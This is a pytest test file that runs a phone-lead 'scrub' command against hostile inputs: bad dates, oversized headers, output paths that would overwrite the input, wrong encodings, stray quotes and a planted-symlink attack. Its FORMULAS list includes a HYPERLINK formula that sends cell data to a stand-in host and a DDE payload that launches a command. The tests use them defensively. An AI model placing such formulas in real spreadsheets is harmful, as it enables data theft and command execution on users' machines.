"""Attack: hostile lead files and careless arguments given to ``dialer-gateway scrub``
(hostile review of issue 13): each is a usage error (exit 2, nothing written) or a row
reported INVALID, never a traceback, and the lead file itself is never replaced."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gateway.cli import main

pytestmark = pytest.mark.usefixtures("clean_cli_env")  # tests/fixtures/cli_env.py


def leads(tmp_path: Path, text: str = "id,phone\n1,06 12 34 56 78\n") -> Path:
    path = tmp_path / "leads.csv"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("at", ["9999-12-31T23:59:59+00:00", "0001-01-01T00:00:00+00:00",
                                "2200-01-01T00:00:00Z"])
def test_at_outside_the_calendar_is_a_usage_error(tmp_path: Path, at: str,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out.csv"
    assert main(["scrub", str(leads(tmp_path)), "--campaign", "demo", "--at", at,
                 "--out", str(out)]) == 2
    assert "outside 2000-2199" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize("header, problem", [
    ('number,"' + "x" * 200_000 + '"', "unreadable header row: field larger than"),
    ("number" + ",c" * 1000, "the header has 1001 columns (at most 1000)"),
])
def test_header_unreadable_or_too_wide_is_a_usage_error(
        tmp_path: Path, header: str, problem: str, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out.csv"
    assert main(["scrub", str(leads(tmp_path, f"{header}\n0612345678\n")), "--campaign",
                 "demo", "--out", str(out)]) == 2
    assert problem in capsys.readouterr().err
    assert not out.exists()


def test_out_naming_the_lead_file_is_refused(tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    text = "id,phone\n1,06 12 34 56 78\n2,\"06 12 34 56 79\n"  # an unreadable row
    path = leads(tmp_path, text)
    (tmp_path / "link.csv").symlink_to(path)
    for out in (str(path), "leads.csv", "./sub/../leads.csv", str(tmp_path / "link.csv")):
        (tmp_path / "sub").mkdir(exist_ok=True)
        assert main(["scrub", str(path), "--campaign", "demo", "--out", out]) == 2, out
        assert "it would be replaced" in capsys.readouterr().err
    assert path.read_text(encoding="utf-8") == text  # the leads as they were


def test_report_out_naming_the_audit_trail_is_refused(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    trail = tmp_path / "audit.jsonl"
    trail.write_text("", encoding="utf-8")
    cfg = tmp_path / "gw.toml"
    cfg.write_text(f'[audit]\nsink = "jsonl"\npath = "{trail}"\n', encoding="utf-8")
    rotated = tmp_path / "audit.jsonl.1"
    rotated.write_text("", encoding="utf-8")
    for out, files in ((trail, []), (tmp_path / "audit.jsonl.head", []),
                       (rotated, [str(rotated), str(trail)])):
        assert main(["--config", str(cfg), "report", "--from", "2026-12-01", "--to",
                     "2026-12-01", "--out", str(out), *files]) == 2, out
        assert "it would be replaced" in capsys.readouterr().err
    assert trail.read_text(encoding="utf-8") == rotated.read_text(encoding="utf-8") == ""


FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A2;\"click\")", "+33 6 12 34 56 78)*0+1",
            "-2+3", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0"]


def test_added_columns_never_start_a_formula(tmp_path: Path) -> None:
    """Spreadsheet formula injection: the lead file's own cells are written back verbatim
    (docs/scrub.md says so); the columns the scrub adds hold only its own words, E.164
    numbers (+ and digits), instants and zone names, never the hostile input."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["name", "phone"])
    writer.writerows([[f, f] for f in FORMULAS] + [["x", "06 12 34 56 78"], ['"', '"']])
    path = leads(tmp_path, buf.getvalue())
    out = tmp_path / "out.csv"
    assert main(["scrub", str(path), "--campaign", "demo", "--at",
                 "2026-12-01T10:30:00+01:00", "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["phone"] for r in rows[:len(FORMULAS)]] == FORMULAS  # verbatim
    for row in rows:
        for name in ("verdict", "reason", "next_legal_at", "next_legal_local", "zones",
                     "consent_id", "contract_id", "error"):
            assert row[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, row)
        assert row["e164"] == "" or row["e164"][1:].isdigit()


@pytest.mark.parametrize("data", [
    "name;phone\nHélène;06 12 34 56 78\n".encode("cp1252"),  # an Excel export in France
    "name\tphone\nHélène\t06 12 34 56 78\n".encode("utf-16"),  # Excel's "Unicode text"
    b"name,phone\n" + b"Al,06 12 34 56 78\n" * 5000 + b"H\xe9l\xe8ne,06 12 34 56 78\n",
])
def test_lead_file_not_in_utf8_is_refused_not_rewritten(
        tmp_path: Path, data: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    """The leads' own columns were decoded with replacement characters and written
    back so: Hélène came back as H\ufffdl\ufffdne, silently, in every name with an accent."""
    path = tmp_path / "leads.csv"
    path.write_bytes(data)
    out = tmp_path / "out.csv"
    assert main(["scrub", str(path), "--campaign", "demo", "--out", str(out)]) == 2
    assert "not UTF-8" in capsys.readouterr().err
    assert not out.exists() and list(tmp_path.iterdir()) == [path]


def test_number_column_named_twice_is_refused(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    path = leads(tmp_path, "Phone,phone\n06 12 34 56 78,06 12 34 56 82\n")
    out = tmp_path / "out.csv"
    assert main(["scrub", str(path), "--campaign", "demo", "--number-column", "phone",
                 "--out", str(out)]) == 2
    assert "2 columns named 'phone'" in capsys.readouterr().err
    assert not out.exists()


def test_out_naming_a_directory_is_a_usage_error(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    trail = tmp_path / "audit.jsonl"
    trail.write_text("", encoding="utf-8")
    cfg = tmp_path / "gw.toml"
    cfg.write_text(f'[audit]\nsink = "jsonl"\npath = "{trail}"\n', encoding="utf-8")
    (tmp_path / "dir").mkdir()
    for argv in (["scrub", str(leads(tmp_path)), "--campaign", "demo"],
                 ["--config", str(cfg), "report", "--from", "2026-12-01", "--to",
                  "2026-12-01"]):
        assert main([*argv, "--out", str(tmp_path / "dir")]) == 2  # was a traceback
        assert "is a directory" in capsys.readouterr().err
    assert list((tmp_path / "dir").iterdir()) == []
    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name]


def test_temporary_output_file_is_not_a_planted_symlink(tmp_path: Path) -> None:
    """--out in a shared directory (/tmp): the temporary file's name was predictable
    (``.NAME.tmp-PID``) and opened following symlinks, so a planted link made the run
    write the scrubbed leads (as the operator) into the file it pointed to."""
    import os

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / f".out.csv.tmp-{os.getpid()}").symlink_to(victim)
    out = shared / "out.csv"
    assert main(["scrub", str(leads(tmp_path)), "--campaign", "demo", "--at",
                 "2026-12-01T10:30:00+01:00", "--out", str(out)]) == 0
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert out.read_text(encoding="utf-8").startswith("id,phone,verdict")
    assert not out.is_symlink()


def scrub_rows(tmp_path: Path, text: str) -> list[dict[str, str]]:
    out = tmp_path / "out.csv"
    assert main(["scrub", str(leads(tmp_path, text)), "--campaign", "demo", "--at",
                 "2026-12-01T10:30:00+01:00", "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("tail", ["", '9999,"closing quote far below,06 12 34 56 78\n'])
def test_a_quote_left_open_does_not_swallow_the_rows_after_it(tmp_path: Path,
                                                              tail: str) -> None:
    """One stray quote in row 2 of 1,002 leads: the csv reader took every line after it
    for one quoted field, and the output had 2 rows (\"2 rows: 1 ALLOW, 1 INVALID\"):
    1,000 leads neither scrubbed nor reported."""
    body = ["id,name,phone", "1,Al,06 12 34 56 78", '2,"Bob,06 12 34 56 78']
    body += [f"{i},N{i},06 12 34 56 {i % 100:02d}" for i in range(3, 1003)]
    rows = scrub_rows(tmp_path, "\n".join(body) + "\n" + tail)
    assert [r["id"] for r in rows] == [str(i) for i in range(1, 1003)] + (
        ["9999"] if tail else [])
    assert rows[1]["verdict"] == "INVALID" and rows[1]["name"] == "Bob,06 12 34 56 78"
    assert rows[1]["error"].startswith("unbalanced quotes: a quoted field runs over")
    assert all(r["verdict"] != "INVALID" for r in rows[2:1002])
    if tail:
        assert rows[-1]["verdict"] == "INVALID"


def test_quoted_newlines_within_a_record_are_kept(tmp_path: Path) -> None:
    note = "line one\nline two\nline three"
    rows = scrub_rows(tmp_path, f'id,note,phone\n1,"{note}",06 12 34 56 78\n'
                                f'2,"x, ""quoted""",06 12 34 56 82\n')
    assert [(r["id"], r["note"], r["verdict"]) for r in rows] == [
        ("1", note, "ALLOW"), ("2", 'x, "quoted"', "BLOCK")]
